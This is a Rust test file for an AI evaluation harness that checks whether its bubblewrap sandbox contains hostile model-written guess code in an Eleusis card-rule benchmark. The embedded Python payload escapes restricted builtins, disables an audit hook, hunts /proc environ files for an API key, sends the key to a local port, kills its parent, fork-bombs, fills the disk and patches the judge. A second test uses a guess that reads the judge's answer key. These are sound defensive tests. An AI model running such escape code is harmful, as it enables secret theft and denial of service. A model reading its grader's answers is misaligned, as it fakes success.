//! Hostile model-written code against the Eleusis judge, through the binary (issue 11).
//!
//! The rule compiler answers with guess code that really escapes the restricted builtins
//! (`os._wrap_close.__init__.__globals__` → `sys` → switches the audit hook off → `os`) and then tries
//! everything at once: find the API key in any `/proc/*/environ`, list the cache and data
//! directories, kill its parent, connect to a port this test opened, write into the cache,
//! fill the disk, fork 10,000 processes, allocate 50 GB, print 200 MB, leave a daemon
//! behind and patch the judge. The code then answers like "only red cards" when it escaped
//! but found nothing, and like "even ranks only" when it found a secret or the cache. So:
//! the `only_red_cards` cell winning proves the escape worked inside the sandbox, and the
//! `even_ranks_only` cell not winning proves nothing leaked. The escape is made once and kept on
//! `Card`, as a real attacker would, so that the 208,000 calls of a winning check fit the judge's
//! 10 s budget on a loaded CI machine.

use std::io::Read;
use std::net::TcpListener;

use evalgrid::providers::mock::{MockConfig, MockOutcome, MockReply, MockServer, Script};

use crate::support::Workspace;

const SECRET: &str = "sk-hostile-test-0123456789abcdef";

fn hostile_code(port: u16, cache: &str, data: &str, nonce: &str) -> String {
    format!(
        r#"m = None
try:
    m = Card._m
except:
    try:
        for c in ().__class__.__base__.__subclasses__():
            if c.__name__ == '_wrap_close':
                sys = c.__init__.__globals__['sys']
                break
        m = sys.modules['__main__']
        Card._m = m
    except:
        m = None
if m is not None:
    m.S.guarding = False
    sys = m.sys
if m is not None and not m.__dict__.get('probed', False):
    m.probed = True
    m.leaked = False
    os = sys.modules['os']
    bi = sys.modules['builtins']
    try:
        for p in os.listdir('/proc'):
            try:
                with bi.open('/proc/' + p + '/environ', 'rb') as f:
                    if b'{secret}' in f.read():
                        m.leaked = True
            except:
                pass
    except:
        pass
    for d in ['{cache}', '{data}']:
        try:
            os.listdir(d)
            m.leaked = True
        except:
            pass
    try:
        with bi.open('{cache}/pwned', 'w') as f:
            f.write('x')
        m.leaked = True
    except:
        pass
    try:
        os.kill(os.getppid(), 9)
    except:
        pass
    try:
        s = bi.__import__('socket').create_connection(('127.0.0.1', {port}), timeout=1)
        s.sendall(b'{secret}')
    except:
        pass
    try:
        with bi.open('/tmp/fill', 'wb') as f:
            for i in range(600):
                f.write(b'0' * (1 << 20))
    except:
        pass
    try:
        with bi.open('/workspace/fill', 'wb') as f:
            for i in range(600):
                f.write(b'0' * (1 << 20))
    except:
        pass
    try:
        x = bytearray(50 * 1024 ** 3)
    except:
        pass
    try:
        for i in range(200):
            sys.stderr.write('y' * (1 << 20))
        sys.stderr.flush()
    except:
        pass
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv('/bin/sleep', ['sleep', '{nonce}'])
    except:
        pass
    try:
        for i in range(10000):
            if os.fork() == 0:
                os._exit(0)
    except:
        pass
    try:
        m.evaluate = lambda *a, **k: True
        m.S.tick_limit = 10 ** 9
    except:
        pass
if m is None:
    return False
if m.leaked:
    return card.rank % 2 == 0
return card.color == "red""#,
        secret = SECRET
    )
}

fn script(code: String) -> Script {
    Script::function(move |req| {
        let text = &req.last_user;
        if text.contains("<CODE>") {
            return MockOutcome::Reply(MockReply::text(format!("<NAME>probe</NAME>\n<CODE>\n{code}\n</CODE>")));
        }
        let hand = text.split("#### YOUR HAND").nth(1).and_then(|s| s.lines().map(str::trim).find(|l| !l.is_empty())).unwrap_or("");
        let card = hand.split(", ").next().unwrap_or("");
        MockOutcome::Reply(MockReply::text(format!(
            "<ACTION>{{\"reasoning_summary\": \"probe\", \"card\": \"{card}\", \"tentative_rule\": \"Only red cards.\", \"confidence_level\": 6, \"guess_rule\": true}}</ACTION>"
        )))
    })
}

pub(crate) fn procs_with(needle: &str) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let mut buf = Vec::new();
        if std::fs::File::open(e.path().join("cmdline")).and_then(|mut f| f.read_to_end(&mut buf)).is_ok() {
            let cmd = String::from_utf8_lossy(&buf).replace('\0', " ");
            if cmd.contains(needle) {
                out.push(format!("{}: {cmd}", e.file_name().to_string_lossy()));
            }
        }
    }
    out
}

pub(crate) fn files_containing(dir: &std::path::Path, needle: &[u8]) -> Vec<String> {
    let mut hits = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if std::fs::read(&p).is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle)) {
                hits.push(p.display().to_string());
            }
        }
    }
    hits
}

/// A non-blocking listener on a free 127.0.0.1 port that sandboxed code must not reach.
pub(crate) fn listener() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

/// Whether bubblewrap is installed and can create namespaces here.
pub(crate) fn bwrap_works() -> bool {
    std::process::Command::new("bwrap").args(["--unshare-all", "--die-with-parent", "--ro-bind", "/", "/", "true"]).status().is_ok_and(|s| s.success())
}

#[test]
fn escaping_guess_code_is_contained_by_the_sandbox() {
    if !bwrap_works() {
        eprintln!("SKIPPED: bubblewrap is missing or cannot create namespaces here (apt-get install bubblewrap)");
        return;
    }
    let (listener, port) = listener();
    let ws = Workspace::new();
    let cache = ws.path("cache");
    let data = ws.path("data");
    std::fs::create_dir_all(&data).unwrap();
    let nonce = format!("98{}{}", std::process::id(), port);
    let code = hostile_code(port, cache.to_str().unwrap(), data.to_str().unwrap(), &nonce);
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let server = runtime.block_on(MockServer::start(MockConfig { script: script(code), record_log: false, ..MockConfig::default() })).unwrap();
    let url = format!("{}/v1", server.base_url().trim_end_matches('/'));
    ws.write(
        "p.yaml",
        &format!(
            "name: hostile\nmodels:\n  - {{id: player, provider: openai, model: mock-player, base_url: \"{url}\", api_key_env: HOSTILE_KEY}}\ntasks:\n  - benchmark: eleusis\n    select: [only_red_cards, even_ranks_only]\n    params:\n      max_turns: 3\n      compiler: {{provider: openai, model: mock-compiler, base_url: \"{url}\", api_key_env: HOSTILE_KEY}}\nseeds: [0]\n"
        ),
    );
    let out = ws
        .cmd()
        .env("HOSTILE_KEY", SECRET)
        .env_remove("EVALGRID_UNSAFE_NO_SANDBOX")
        .args(["--data-dir", data.to_str().unwrap(), "run", "p.yaml", "--json"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.code().is_some(), "evalgrid was killed: {:?}\n{stderr}", out.status);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    let csv = std::fs::read_to_string(ws.path("reports/hostile/summary.csv")).unwrap();
    let header = csv.lines().next().unwrap();
    let col = |name: &str| header.split(',').position(|h| h == name).unwrap();
    let row = |task: &str| -> Vec<String> {
        csv.lines().find(|l| l.starts_with(&format!("eleusis,player,{task},"))).unwrap().split(',').map(str::to_owned).collect()
    };
    if row("only_red_cards")[col("success_rate")] != "1" {
        let show = ws.cmd().args(["--data-dir", data.to_str().unwrap(), "show", "p.yaml", "player/eleusis/only_red_cards/0"]).output().unwrap();
        eprintln!("{}", String::from_utf8_lossy(&show.stdout).chars().take(6000).collect::<String>());
    }
    assert_eq!(row("only_red_cards")[col("success_rate")], "1", "the escape must really reach `os` inside the sandbox:\n{csv}");
    assert_eq!(row("even_ranks_only")[col("success_rate")], "0", "the guess found the key, the cache or the data dir:\n{csv}");
    assert!(listener.accept().is_err(), "the sandboxed code reached a 127.0.0.1 port");
    assert!(!cache.join("pwned").exists(), "the sandboxed code wrote into the cache");
    assert!(procs_with(&format!("sleep {nonce}")).is_empty(), "a daemonised child survived: {:?}", procs_with(&nonce));
    let verify = ws.cmd().args(["cache", "verify"]).output().unwrap();
    assert_eq!(verify.status.code(), Some(0), "{}", String::from_utf8_lossy(&verify.stderr));
    assert!(!stdout.contains(SECRET) && !stderr.contains(SECRET), "the key reached stdout/stderr");
    let hits = files_containing(ws.dir.path(), SECRET.as_bytes());
    assert!(hits.is_empty(), "the key was written to {hits:?}");
    runtime.block_on(server.shutdown());
}

/// Guess code that escapes the restricted builtins and walks its caller's frames for the
/// secret rule's verdicts (the red team's guess of issue 21), answering with them if found.
const SELF_JUDGING_GUESS: &str = include_str!("../fixtures/self_judging_guess.py");

/// Issue 21: the judge's worker holds no secret verdict, so a guess that looks for them in
/// its caller's frames loses, on a plain and on a sequence rule, through the whole pipeline
/// (compiler answer, sandboxed judge, cached verdict, report).
#[test]
fn a_guess_that_reads_the_judges_answer_key_loses() {
    if !bwrap_works() {
        eprintln!("SKIPPED: bubblewrap is missing or cannot create namespaces here (apt-get install bubblewrap)");
        return;
    }
    let ws = Workspace::new();
    let data = ws.path("data");
    std::fs::create_dir_all(&data).unwrap();
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let server =
        runtime.block_on(MockServer::start(MockConfig { script: script(SELF_JUDGING_GUESS.to_owned()), record_log: false, ..MockConfig::default() })).unwrap();
    let url = format!("{}/v1", server.base_url().trim_end_matches('/'));
    ws.write(
        "p.yaml",
        &format!(
            "name: self-judge\nmodels:\n  - {{id: player, provider: openai, model: mock-player, base_url: \"{url}\"}}\ntasks:\n  - benchmark: eleusis\n    select: [only_red_cards, alternating_colors]\n    params:\n      max_turns: 3\n      compiler: {{provider: openai, model: mock-compiler, base_url: \"{url}\"}}\nseeds: [0]\n"
        ),
    );
    let out = ws.cmd().env_remove("EVALGRID_UNSAFE_NO_SANDBOX").args(["--data-dir", data.to_str().unwrap(), "run", "p.yaml", "--json"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = std::fs::read_to_string(ws.path("reports/self-judge/summary.csv")).unwrap();
    let header = csv.lines().next().unwrap();
    let col = header.split(',').position(|h| h == "success_rate").unwrap();
    for task in ["only_red_cards", "alternating_colors"] {
        let row: Vec<&str> = csv.lines().find(|l| l.starts_with(&format!("eleusis,player,{task},"))).unwrap().split(',').collect();
        assert_eq!(row[col], "0", "the guess that reads the judge's answer key won `{task}`:\n{csv}");
    }
    runtime.block_on(server.shutdown());
}

#[test]
fn model_code_without_bubblewrap_needs_an_explicit_opt_out() {
    // Opt-out path (runs as whatever user the tests run as): with bubblewrap hidden from
    // PATH, a pipeline that runs model code stops with exit 2 naming the package; with
    // `--unsafe-no-sandbox` it runs and the report says so on its first screen.
    let ws = Workspace::new();
    let bin = ws.path("bin");
    std::fs::create_dir_all(&bin).unwrap();
    for tool in ["kill", "sleep"] {
        if let Some(p) = which(tool) {
            std::os::unix::fs::symlink(p, bin.join(tool)).unwrap();
        }
    }
    // The real interpreter, not a version-manager shim that needs a shell.
    let exe = std::process::Command::new("python3").args(["-c", "import sys; print(sys.executable)"]).output().unwrap();
    std::os::unix::fs::symlink(String::from_utf8_lossy(&exe.stdout).trim(), bin.join("python3")).unwrap();
    ws.write(
        "p.yaml",
        "name: weird-nosandbox\nmodels:\n  - {id: scripted, provider: builtin, model: scripted}\ntasks:\n  - {benchmark: weirdml, select: [mini-shapes], params: {iterations: 1, time_limit_s: 2}}\nseeds: [0]\n",
    );
    let out = ws.cmd().env("PATH", &bin).env_remove("EVALGRID_UNSAFE_NO_SANDBOX").args(["run", "p.yaml"]).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("bubblewrap") && stderr.contains("--unsafe-no-sandbox"), "{stderr}");
    let out = ws.cmd().env("PATH", &bin).args(["run", "p.yaml", "--unsafe-no-sandbox"]).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.code().is_some_and(|c| c <= 1), "{stderr}");
    assert!(stderr.contains("resource limits only"), "{stderr}");
    let html = std::fs::read_to_string(ws.path("reports/weird-nosandbox/index.html")).unwrap();
    let first_warning = html.find("class=\"warning\"").expect("warning on the page");
    assert!(first_warning < html.find("id=\"summary\"").unwrap_or(usize::MAX), "warning is on the first screen");
    let md = std::fs::read_to_string(ws.path("reports/weird-nosandbox/summary.md")).unwrap();
    assert!(md.contains("sandbox opt-out"), "{md}");
}

fn which(tool: &str) -> Option<std::path::PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?).map(|d| d.join(tool)).find(|p| p.is_file())
}
